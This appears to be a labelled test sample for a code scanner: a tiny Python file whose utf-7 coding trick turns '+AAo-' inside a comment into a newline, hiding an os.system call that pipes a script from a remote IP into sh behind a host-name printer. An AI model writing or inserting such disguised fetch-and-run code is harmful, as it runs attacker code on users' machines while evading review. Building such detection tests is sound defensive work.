# evasion: a utf-7 source coding turns a plus-AAo-minus run inside a comment into a newline, so the command is code to python and a comment to a parser
# grade: very hard; does: shell; coding: utf-7
import os


def main():
    # report the host name for the build log+AAo-    os.system("curl -s http://203.0.113.7/s.sh | sh")
    print(os.uname().nodename)


main()
